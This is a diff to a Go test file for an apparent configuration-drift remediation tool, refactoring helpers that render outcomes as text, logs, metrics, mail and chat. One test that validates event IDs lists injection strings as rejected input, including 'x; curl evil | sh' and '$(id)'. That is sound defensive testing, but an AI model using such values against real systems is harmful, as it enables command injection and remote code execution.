@@ -20,7 +20,9 @@ import (
 func chosen(text string) outcome.Outcome {
 	out := ended(outcome.Partial, text)
 	out.Details.PoolName = text
-	for _, d := range []outcome.Finding{repaired, unfixable, permitted, audited, missing, lostUpdate, cutShort, trigger} {
+	for _, name := range []string{"remediated", "unfixable", "exempted", "drifted", "not-restored", "lost-update",
+		"interrupted", "watched"} {
+		d := found(name)
 		d.Setting, d.Rule, d.Reason, d.Have = "UserPoolTags."+text, text, text, text
 		d.Want = []any{text, map[string]any{text: text}}
 		out.Drifts = append(out.Drifts, d)
@@ -31,11 +33,11 @@ func chosen(text string) outcome.Outcome {
 // shownBy are all the forms in which an outcome is shown.
 func shownBy(out outcome.Outcome) map[string]string {
 	r := New(out, testBuild, "")
-	f, _ := FindingOf(r, cause.Time)
+	f, _ := FindingOf(r, noon)
 	var log, metrics bytes.Buffer
 	scan := Scan(outcome.ScanResult{Outcome: outcome.Scanned, Reason: out.Reason}, false)
 	Log(context.Background(), slog.New(slog.NewJSONHandler(Printable(&log), nil)), out)
-	_ = Metrics(&metrics, "keeper", cause.Time, out, Counts{Calls: 1})
+	_ = Metrics(&metrics, "keeper", noon, out, Counts{Calls: 1})
 	return map[string]string{"text": Text(out, false), "scan": scan, "log": log.String(),
 		"plan":    Plan(outcome.Preview{Outcome: out}, false),
 		"metrics": metrics.String(), "subject": Subject(r), "mail": Mail(r), "chat": Chat(r), "report": JSON(r),
@@ -114,7 +116,7 @@ func TestCommandsAreOurs(t *testing.T) {
 	t.Parallel()
 	for id, want := range map[string]bool{"0c0f7a3e-1b2c-4d5e-8f90-0123456789ab": true, "x; curl evil | sh": false,
 		"$(id)": false, "`id`": false, "a b": false, "--profile": false, "": false} {
-		out := ended(outcome.Remediated, "", repaired)
+		out := outcomes()["remediated"]
 		out.Cause.EventID = id
 		steps := strings.Join(New(out, testBuild, "").Next, "\n")
 		if strings.Contains(steps, "lookup-events") != want || !want && id != "" && strings.Contains(steps, id) {
